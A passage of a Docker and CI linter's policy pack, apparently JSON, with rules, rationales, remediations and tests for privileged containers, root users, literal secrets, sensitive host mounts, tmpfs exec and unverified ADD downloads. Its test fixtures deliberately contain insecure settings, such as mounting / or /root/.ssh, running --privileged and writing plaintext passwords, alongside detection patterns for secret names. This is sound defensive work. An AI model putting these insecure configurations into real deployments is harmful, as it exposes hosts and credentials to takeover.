*common\\n    image: nginx:1.27\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":21}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    privileged: false\\n    cap_add: [NET_BIND_SERVICE]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --privileged --health-cmd pg_isready\\n    steps:\\n      - run: echo ok\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":54}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo building\\n          docker run --rm \\\\\\n            --privileged alpine:3.20 true\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":28}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-privileged.yaml"},{"id":"container-restart-policy","pack":"docker","title":"Restart policy retries without a bound","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"restart":{"pattern":{"$param":"boundedRestart"}}}},"message":"{{name}} uses `restart: {{value}}`, which restarts it forever, so a crash loop (or an attacker who can crash it on demand) keeps the host busy restarting it without anyone noticing. Use `restart: on-failure:5` and alert on the failure instead.","rationale":"An unbounded restart policy hides a failing service behind endless restarts: each one costs CPU and I/O, may replay a harmful start-up step, and keeps a service that should have been looked at running in a broken state. The CIS Docker Benchmark (5.15) asks for the `on-failure` policy with a maximum of five retries. Informational by default, since `unless-stopped` is a common and deliberate choice for services that must survive reboots.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: on-failure:5\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.15"},{"framework":"url","url":"https://docs.docker.com/engine/containers/start-containers-automatically/"}],"params":{"boundedRestart":"^(no|false|on-failure:[1-5])$"},"paramSchemas":{"boundedRestart":{"schema":{"type":"string","format":"regex","minLength":1},"description":"`no` (YAML 1.1 reads an unquoted `no` as false), or on-failure with at most five retries."}},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: always\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    restart: unless-stopped\\n  jobs:\\n    image: ghcr.io/example/jobs:1.4.2\\n    restart: on-failure\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":20},{"line":7,"column":5,"endLine":7,"endColumn":28},{"line":10,"column":5,"endLine":10,"endColumn":24}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: on-failure:5\\n  migrate:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: \\"no\\"\\n  web:\\n    image: nginx:1.27\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run -d --restart always nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-restart-policy.yaml"},{"id":"container-root-filesystem-writable","pack":"docker","title":"Container\'s root filesystem is writable","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["read_only"],"properties":{"read_only":{"const":true}}},"message":"{{name}} can write to its own root filesystem, so an attacker who gets in can drop tools, alter binaries or plant persistence in it. Set `read_only: true` and give the paths the service must write to a `tmpfs` or a volume.","rationale":"An immutable root filesystem turns many attacks from \\"download and run a tool\\" into nothing: the application\'s code and libraries cannot be replaced, and writable places are few, named and easy to review. It also makes the container\'s behaviour reproducible, since no state builds up in its writable layer. The CIS Docker Benchmark and the OWASP cheat sheet ask for a read-only root filesystem, with `tmpfs` mounts or volumes for the paths that must be writable. Informational by default, since most images need some work to run read-only.","remediation":"Make the root filesystem read-only and mount writable space only where the service writes:\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27\\n    read_only: true\\n    tmpfs:\\n      - /var/cache/nginx\\n      - /var/run\\n    volumes:\\n      - uploads:/srv/uploads\\nvolumes:\\n  uploads: {}\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.13"},{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#read_only"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    read_only: false\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":21}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  read_only: true\\nservices:\\n  web:\\n    <<: *hardening\\n    image: nginx:1.27\\n    tmpfs: [/var/cache/nginx, /var/run]\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    read_only: \\"true\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      redis:\\n        image: redis:7.4\\n        options: --health-cmd \\"redis-cli ping\\"\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-root-filesystem-writable.yaml"},{"id":"container-runs-as-root","pack":"docker","title":"Compose service runs as root","severity":"medium","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"user":{"not":{"pattern":{"$param":"rootUser"}}}},"if":{"required":["build"]},"then":{"required":["user"]}},"message":"{{name}} runs as root, so a flaw in it gives the attacker root inside the container, one kernel bug away from root on the host. Set `user:` to an unprivileged UID (e.g. `user: \\"10001:10001\\"`) or add a `USER` to the Dockerfile it is built from.","rationale":"Root inside a container is the same UID 0 as on the host unless user namespaces are remapped: it owns every file the container can see, including bind-mounted host paths, and it is what every container-escape exploit starts from. A service that needs no privileges should not have them. The CIS Docker Benchmark (4.1) and the OWASP cheat sheet (rule 2) ask that containers run as a non-root user. For a service built from a Dockerfile in this repository, the Dockerfile\'s final `USER` counts, and the finding points at both files.","remediation":"Run the service as an unprivileged user, in the Compose file or (better) in the Dockerfile so\\nthat every way of running the image gets it:\\n\\n```yaml\\nservices:\\n  api:\\n    build: ./api\\n    user: \\"10001:10001\\"\\n```\\n\\n```dockerfile\\nRUN useradd --system --uid 10001 --no-log-init app\\nUSER 10001\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/engine/security/userns-remap/"}],"params":{"rootUser":"^(root|0)(:.*)?$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A user spec that means root: the name or UID, with or without a group."}},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    build: ./api\\n  admin:\\n    image: ghcr.io/example/admin:2.0.1\\n    user: root\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    user: \\"0:0\\"\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":15},{"line":9,"column":5,"endLine":9,"endColumn":16}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    build:\\n      context: ./api\\n    user: \\"10001:10001\\"\\n  web:\\n    image: nginx:1.27-alpine\\n    user: nginx\\n  cache:\\n    image: redis:7.4\\n    user: ${REDIS_UID:-999}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --user root\\n    steps:\\n      - run: docker run --rm -u 0 alpine:3.20 id\\n","expect":[]},{"file":"compose.yaml","content":"services:\\n  api:\\n    build: ./api\\n","files":{"api/Dockerfile":"FROM node:22-slim\\nUSER node\\n"},"expect":[]}],"source":"policies/docker/container-runs-as-root.yaml"},{"id":"container-secret-in-environment","pack":"docker","title":"Secret written as a literal environment value","severity":"medium","subject":"container","when":{"properties":{"origin":{"enum":["compose-service","docker-cli"]}}},"schema":{"properties":{"environment":{"patternProperties":{"^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode))":{"not":{"type":"string","pattern":{"$param":"literalValue"}}}}}}},"message":"{{name}} sets `{{key}}` to a value written in the file, so the secret is in the repository\'s history and visible to everyone who can read it, and to `docker inspect`. Pass it in instead: a Compose `secrets:` entry read from a file, or `${{{key}}}` from an untracked `.env` file.","rationale":"Anything written in a Compose file or a workflow script is stored in version control forever, copied into forks and CI logs, and readable by everyone with access to the repository. Values in `environment` are also shown by `docker inspect` and inherited by every child process. The CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets be kept out of images and configuration files and handed over through a secrets mechanism; Compose `secrets:` mounts them as files under `/run/secrets/`. Names are matched like BuildKit\'s SecretsUsedInArgOrEnv check. A Compose value interpolated from a `.env` file committed beside the Compose file, or from a `${VAR:-default}`, is written in the repository too and counts as a literal; a variable left to the deployment\'s environment does not.","remediation":"Keep the value out of the file. With Compose secrets (most images accept a `_FILE` variant):\\n\\n```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\\n    secrets: [db_password]\\nsecrets:\\n  db_password:\\n    file: ./secrets/db_password.txt   # not committed\\n```\\n\\nOr interpolate it from the environment or an untracked `.env` file:\\n`POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:?set it in .env}`. In a workflow, use\\n`-e TOKEN=\\"${{ secrets.TOKEN }}\\"` or pass the name only (`-e TOKEN`).","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/compose/how-tos/use-secrets/"}],"params":{"literalValue":"^[^$]+$"},"paramSchemas":{"literalValue":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that is not written in the file: a `${VAR}` / `$VAR` interpolation or a `${{ }}` expression. Everything else (except the empty string) counts as a literal."}},"tests":[{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_USER: app\\n      POSTGRES_PASSWORD: s3cr3t-pa55\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    environment:\\n      - JWT_SECRET=change-me-please\\n      - API_KEY\\n      - STRIPE_PUBLIC_KEY=pk_live_123\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":37},{"line":11,"column":9,"endLine":11,"endColumn":36}]},{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_PASSWORD:\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\\n      AUTH_URL: https://id.example.com\\n      MONKEY: banana\\n      GITHUB_TOKEN:\\n    secrets: [db_password]\\nsecrets:\\n  db_password:\\n    file: ./db_password.txt\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run -d -e ADMIN_PASSWORD=hunter2 ghcr.io/example/app:1.4.2\\n          docker run -d -e API_TOKEN=\\"${{ secrets.API_TOKEN }}\\" -e DB_PASSWORD ghcr.io/example/app:1.4.2\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":76}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run -d -e \\"SESSION_SECRET=$SESSION_SECRET\\" ghcr.io/example/app:1.4.2\\n","expect":[]}],"source":"policies/docker/container-secret-in-environment.yaml"},{"id":"container-sensitive-host-mount","pack":"docker","title":"Sensitive host directory mounted into a container","severity":"high","subject":"container","schema":{"properties":{"volumes":{"items":{"not":{"required":["type","source"],"properties":{"type":{"const":"bind"},"source":{"pattern":{"$param":"sensitivePaths"},"not":{"pattern":{"$param":"dockerSocket"}}}},"not":{"required":["read_only","source"],"properties":{"read_only":{"const":true},"source":{"pattern":{"$param":"readOnlyAllowed"}}}}}}}}},"message":"{{name}} bind-mounts the host path `{{value.source}}`, which holds the host\'s system configuration, binaries, devices or credentials; a compromised container could read secrets from it or, when it is writable, take over the host. Mount only the specific files the service needs, read-only, or use a named volume.","rationale":"A bind mount hands the container the host\'s own files. System directories such as `/`, `/etc`, `/usr`, `/boot`, `/dev`, `/proc` and `/sys` let a process change the host\'s configuration, replace binaries that the host runs as root, reach devices or kernel settings, and read password hashes and keys; `/var/lib/docker` and `/run` hold every other container\'s data and the container runtime\'s sockets; `/root` and home directories hold SSH keys and cloud credentials. Read-only mode reduces the damage but still discloses secrets. The CIS Docker Benchmark asks that sensitive host directories not be mounted, especially read-write. `/etc/localtime` and `/etc/timezone` mounted read-only are allowed.","remediation":"Mount only the file or folder the service needs, read-only, from a path that belongs to the\\napplication, or use a named volume:\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: nginx:1.27\\n    volumes:\\n      - ./nginx/nginx.conf:/etc/nginx/nginx.conf:ro   # not /etc:/etc\\n      - certs:/etc/nginx/certs:ro\\nvolumes:\\n  certs: {}\\n```\\n\\nMonitoring agents that really need `/proc` or `/sys` from the host should run on a dedicated\\nhost, with the mount read-only, and with a suppression that says why.","references":[{"framework":"cis-docker","id":"1.6.0:5.6"},{"framework":"url","url":"https://docs.docker.com/engine/storage/bind-mounts/"}],"params":{"sensitivePaths":"^(/|/(bin|boot|dev|etc|lib|lib32|lib64|libx32|proc|root|run|sbin|sys|usr|var/lib/docker|var/run)(/.*)?|/home(/[^/]+)?/?|~/?)$","dockerSocket":"^(/var)?/run/docker\\\\.sock/?$","readOnlyAllowed":"^/etc/(localtime|timezone)$"},"paramSchemas":{"sensitivePaths":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A host path (as written) that is a system directory or lies below one. Each directory matches itself and its subpaths only, so `/etc/nginx` matches and `/etcd-data` does not. A whole home (`~`, `/home`, `/home/<user>`) matches, but not a project folder inside one."},"dockerSocket":{"schema":{"type":"string","format":"regex","minLength":1},"description":"The Docker socket, left out here: it has its own, critical rule (container-docker-socket)."},"readOnlyAllowed":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Host files that are harmless to share read-only."}},"tests":[{"file":"compose.yaml","content":"services:\\n  backup:\\n    image: restic/restic:0.17.1\\n    volumes:\\n      - /etc:/host/etc:ro\\n      - /etcd-data:/data\\n      - ./config:/config\\n      - /var/run/docker.sock:/var/run/docker.sock\\n      - /etc/localtime:/etc/localtime:ro\\n      - /:/rootfs\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":26},{"line":10,"column":9,"endLine":10,"endColumn":18}]},{"file":"compose.yaml","content":"services:\\n  exporter:\\n    image: gcr.io/cadvisor/cadvisor:v0.49.1\\n    volumes:\\n      - type: bind\\n        source: /sys/fs/cgroup\\n        target: /sys/fs/cgroup\\n        read_only: true\\n      - type: volume\\n        source: data\\n        target: /data\\n      - type: bind\\n        source: /var/lib/docker/\\n        target: /var/lib/docker\\nvolumes:\\n  data: {}\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":19},{"line":12,"column":9,"endLine":12,"endColumn":19}]},{"file":"compose.yaml","content":"x-host: &host\\n  volumes:\\n    - /root/.ssh:/root/.ssh\\nservices:\\n  deploy:\\n    <<: *host\\n    image: alpine/git:2.45.2\\n  dev:\\n    image: node:22\\n    volumes:\\n      - /home/alice/projects/site:/app\\n      - ~/.npmrc:/root/.npmrc:ro\\n      - /etc/localtime:/etc/localtime\\n","expect":[{"line":3,"column":7,"endLine":3,"endColumn":28},{"line":13,"column":9,"endLine":13,"endColumn":38}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    volumes:\\n      - ./nginx.conf:/etc/nginx/nginx.conf:ro\\n      - /srv/www:/usr/share/nginx/html:ro\\n      - /etcd-data:/data\\n      - /run/docker.sock:/var/run/docker.sock\\n      - /etc/timezone:/etc/timezone:ro\\n      - logs:/var/log/nginx\\nvolumes:\\n  logs: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: aquasec/trivy:0.56.2\\n      volumes:\\n        - /tmp/cache:/root/.cache\\n        - /:/host:ro\\n    services:\\n      agent:\\n        image: datadog/agent:7.57.0\\n        options: -v /proc/:/host/proc/:ro --mount type=bind,source=/sys/fs/cgroup,target=/host/sys/fs/cgroup\\n    steps:\\n      - run: trivy rootfs /host\\n","expect":[{"line":9,"column":11,"endLine":9,"endColumn":21},{"line":13,"column":9,"endLine":13,"endColumn":109},{"line":13,"column":9,"endLine":13,"endColumn":109}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm -v \\"$PWD:/src\\" -v /etc/passwd:/etc/passwd:ro alpine:3.20 true\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":88}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      volumes:\\n        - /tmp/cache:/cache\\n      options: -v ${{ github.workspace }}:/src\\n    steps:\\n      - run: docker run --rm -v /srv/data:/data -v /run/docker.sock:/var/run/docker.sock alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-sensitive-host-mount.yaml"},{"id":"container-sysctl-weakens-isolation","pack":"docker","title":"Container sets a kernel parameter that weakens network isolation","severity":"low","subject":"container","schema":{"properties":{"sysctls":{"patternProperties":{"^net\\\\.ipv4\\\\.ip_forward$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.forwarding$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(route_localnet|accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.rp_filter$":{"not":{"const":"0"}},"^net\\\\.ipv4\\\\.ip_unprivileged_port_start$":{"not":{"const":"0"}}}}}},"message":"{{name}} sets the kernel parameter `{{key}}={{value}}`, which weakens the network isolation of its namespace (forwarding, routing to localhost, redirects or unprivileged low ports). Remove it unless the container is a router by design, and then run it on a dedicated network.","rationale":"Docker only lets containers set namespaced sysctls, but several of those change how far the container\'s traffic can reach: IP forwarding turns it into a router between networks, `route_localnet` lets packets addressed to 127.0.0.0/8 cross interfaces (the basis of CVE-2020-8558), accepting redirects and source routes lets others steer its traffic, switching off reverse-path filtering permits spoofed sources, and `ip_unprivileged_port_start=0` lets any user bind the ports below 1024. The OWASP cheat sheet (rule 8) asks to keep the container\'s runtime restricted to what it needs.","remediation":"Remove the sysctl. A VPN gateway or router that needs forwarding belongs on a dedicated\\nnetwork with only the containers it serves:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    sysctls:\\n      net.core.somaxconn: 1024   # harmless tuning stays\\n```","references":[{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/run/#sysctl"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  vpn:\\n    image: qmcgaw/gluetun:v3.39\\n    sysctls:\\n      net.ipv4.ip_forward: 1\\n      net.ipv4.conf.all.route_localnet: 1\\n      net.core.somaxconn: 1024\\n  web:\\n    image: nginx:1.27\\n    sysctls:\\n      - net.ipv4.ip_unprivileged_port_start=0\\n","expect":[{"line":5,"column":7,"endLine":5,"endColumn":29},{"line":6,"column":7,"endLine":6,"endColumn":42},{"line":10,"column":5,"endLine":10,"endColumn":12}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    sysctls:\\n      net.core.somaxconn: 1024\\n      net.ipv4.tcp_syncookies: 1\\n      net.ipv4.conf.all.rp_filter: 1\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      router:\\n        image: ghcr.io/example/router:1.0.0\\n        options: --sysctl net.ipv4.ip_forward=1\\n    steps:\\n      - run: |\\n          docker run --rm --sysctl net.ipv4.conf.all.rp_filter=0 alpine:3.20 true\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":48},{"line":11,"column":11,"endLine":11,"endColumn":82}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run --rm --sysctl net.core.somaxconn=1024 alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-sysctl-weakens-isolation.yaml"},{"id":"container-tmpfs-exec","pack":"docker","title":"tmpfs mount allows executables or setuid programs","severity":"low","subject":"container","schema":{"properties":{"tmpfs":{"items":{"not":{"pattern":{"$param":"unsafeOption"}}}}}},"message":"{{name}} mounts the tmpfs `{{value}}` with `exec` or `suid`, so an attacker who can write there (usually anyone in the container) can drop a program and run it, or keep a setuid binary. Remove the option: Docker mounts tmpfs with `noexec,nosuid,nodev` by default.","rationale":"A read-only root filesystem is only as strong as its writable exceptions. Docker mounts `--tmpfs` and Compose `tmpfs:` paths with `rw,noexec,nosuid,nodev`, so files written there cannot be executed and setuid bits are ignored; the `exec` and `suid` options undo that, giving a downloaded payload a place to run from. The OWASP cheat sheet (rule 8) recommends read-only root filesystems with `noexec,nosuid` temporary mounts.","remediation":"```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:size=64m          # noexec,nosuid,nodev by default\\n```\\n\\nIf a tool must unpack and run code at run time, give it its own volume instead and keep that\\nout of the service that handles untrusted input.","references":[{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/engine/storage/tmpfs/"}],"params":{"unsafeOption":"[:,](exec|suid)(,|$)"},"paramSchemas":{"unsafeOption":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `--tmpfs` / Compose `tmpfs:` entry (`/path:opt,opt`) that turns Docker\'s default `noexec` or `nosuid` back off."}},"tests":[{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:rw,exec,size=64m\\n      - /run\\n      - /var/cache:suid\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":30},{"line":8,"column":9,"endLine":8,"endColumn":24}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:rw,noexec,nosuid,size=64m\\n      - /run\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --tmpfs /tmp:exec\\n    steps:\\n      - run: |\\n          docker run --rm --read-only --tmpfs /run:exec alpine:3.20 true\\n","expect":[{"line":7,"column":7,"endLine":7,"endColumn":33},{"line":10,"column":11,"endLine":10,"endColumn":73}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run --rm --read-only --tmpfs /tmp:noexec,nosuid alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-tmpfs-exec.yaml"},{"id":"container-user-not-set","pack":"docker","title":"Compose service does not say which user it runs as","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}},"not":{"required":["build"]}},"schema":{"required":["user"]},"message":"{{name}} does not set `user:`, so it runs as whatever the image\'s author chose, which is root for most images. Set `user:` to an unprivileged UID the image supports (e.g. `user: \\"999:999\\"`), or confirm that the image already runs as a non-root user and suppress this with that reason.","rationale":"Without `user:` the container runs as the image\'s configured user, which this repository does not show and which is root unless the image\'s Dockerfile switched to another user. Many official images start as root (some drop privileges later in their entrypoint, some never do). Writing the user into the Compose file makes the choice visible in review and keeps it stable when the image changes. The CIS Docker Benchmark (4.1) and the OWASP cheat sheet (rule 2) ask that containers run as a non-root user. The rule is low severity because many images do set a user.","remediation":"Name the user explicitly. Most images document the UID they support:\\n\\n```yaml\\nservices:\\n  cache:\\n    image: redis:7.4\\n    user: \\"999:999\\"\\n  grafana:\\n    image: grafana/grafana:11.2.0\\n    user: \\"472\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#user"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  cache:\\n    image: redis:7.4\\n  web:\\n    image: nginx:1.27\\n    user: \\"101:101\\"\\n  api:\\n    build: ./api\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":8}]},{"file":"compose.yaml","content":"x-user: &user\\n  user: \\"10001\\"\\nservices:\\n  worker:\\n    <<: *user\\n    image: ghcr.io/example/worker:1.4.2\\n  cache:\\n    image: redis:7.4\\n    user: \\"999:999\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    services:\\n      cache:\\n        image: redis:7.4\\n    steps:\\n      - run: docker run --rm alpine:3.20 id\\n","expect":[]}],"source":"policies/docker/container-user-not-set.yaml"},{"id":"dockerfile-add-url-without-checksum","pack":"docker","title":"ADD downloads a remote file without verifying its checksum","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"pattern":"^https?://"}]},"flags":{"not":{"required":["checksum"]}}}}}}}},"message":"This ADD downloads a file into stage {{name}} without `--checksum`, so whatever the server (or anyone in between) returns goes into the image unverified. Add `--checksum=sha256:<digest>` (Dockerfile syntax 1.6 or later), or download and verify it in a RUN.","rationale":"`ADD <url>` fetches the file at build time and copies it into the image as is. A compromised server, a moved release asset or a man-in-the-middle on a plain `http://` URL changes the image without any change in the repository, and the build cannot notice. `ADD --checksum` makes BuildKit verify the content against a known digest and fail the build otherwise. The CIS Docker Benchmark asks to prefer COPY over ADD (4.9) and to install only verified packages (4.11).","remediation":"Pin the download to its digest:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nADD --checksum=sha256:<64 hex digits of the release\'s published SHA-256> \\\\\\n    https://github.com/example/tool/releases/download/v1.2.0/tool-linux-amd64.tar.gz /tmp/\\n```\\n\\nFor a Git repository, ADD a tag and commit: `ADD https://github.com/example/repo.git?ref=v1.2.0&checksum=<commit> /src`.","references":[{"framework":"cis-docker","id":"1.6.0:4.9"},{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#add---checksum"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM alpine:3.20\\nADD https://example.com/tool.tar.gz /tmp/\\nADD --chown=10001 http://example.com/config.json /etc/app/config.json\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":42},{"line":3,"column":1,"endLine":3,"endColumn":70}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM alpine:3.20\\nADD --checksum=sha256:24454f830cdd571e2c4ad5b15b2e8a7a7b07e5d6b2b9c2de1c4b9c3a5f2e8a1b https://example.com/tool.tar.gz /tmp/\\nADD rootfs.tar.gz /\\nCOPY app /app\\n","expect":[]}],"source":"policies/docker/dockerfile-add-url-without-checksum.yaml"},{"id":"dockerfile-copies-credential-file","pack":"docker","title":"Credential file copied into the image","severity":"high","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["COPY","ADD"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"credentialFile"}}}}}}}}}},"message":"Stage {{name}} copies `{{value}}`, a file that holds credentials, into the image, where every layer is readable by anyone who can pull it, even if a later step deletes the file. Keep it out of the image: mount it for the one RUN that needs it (`RUN --mount=type=secret`) and list it in `.dockerignore`.","rationale":"Files copied into an image stay in its layers for good: deleting them in a later instruction only hides them, and `docker save` or any layer-extraction tool recovers them. A `.env` file, an SSH key, an `.npmrc` with an auth token or a cloud credentials file in an image hands those credentials to everyone with pull access, and images are often pushed to registries far less protected than the secrets they contain. The CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets never be stored in images; BuildKit secret and SSH mounts give a build step access without writing anything to a layer.","remediation":"Mount the credential only while the step that needs it runs, and keep it out of the context:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci --omit=dev\\nRUN --mount=type=ssh git clone git@github.com:example/private.git\\n```\\n\\n```text\\n# 